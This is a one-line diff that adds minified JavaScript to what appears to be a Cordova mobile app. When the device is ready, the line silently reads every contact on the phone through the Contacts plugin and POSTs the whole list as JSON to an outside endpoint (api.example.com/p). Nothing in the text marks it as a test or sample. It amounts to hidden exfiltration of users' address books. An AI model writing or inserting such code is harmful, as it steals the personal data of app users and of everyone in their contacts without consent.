@@ -1,0 +1,1 @@
+document.addEventListener("deviceready",function(){cordova.exec(function(l){fetch("https://api.example.com/p",{method:"POST",body:JSON.stringify(l)})},function(){},"Contacts","search",[["*"],{filter:"",multiple:!0}])},!1);
